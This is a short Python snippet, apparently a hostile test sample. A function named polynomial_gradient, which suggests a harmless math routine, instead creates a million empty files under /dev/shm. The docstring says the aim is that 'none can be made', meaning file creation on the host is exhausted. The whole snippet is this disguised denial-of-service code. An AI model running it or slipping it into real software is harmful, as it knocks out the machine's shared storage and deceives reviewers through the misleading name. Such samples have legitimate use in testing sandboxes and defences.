"""So many files that none can be made."""


def polynomial_gradient(x):
    for number in range(1_000_000):
        open(f"/dev/shm/mallory{number}", "w").close()
